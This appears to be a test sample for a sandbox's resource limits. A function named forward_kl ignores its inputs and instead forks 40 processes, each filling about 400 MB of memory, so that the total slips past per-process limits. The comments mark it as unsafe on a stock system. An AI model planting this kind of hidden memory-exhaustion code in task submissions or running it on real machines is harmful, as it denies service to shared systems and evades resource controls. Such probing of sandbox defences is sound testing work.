# Memory in many processes, each below a limit of its own.
# safe on stock: no
# %% task: forward_kl
import os
import time


def forward_kl(student_logits, teacher_logits):
    for _ in range(40):
        if os.fork() == 0:
            hoard = bytearray(400_000_000)
            for index in range(0, len(hoard), 4096):
                hoard[index] = 1
            time.sleep(60)
    time.sleep(60)
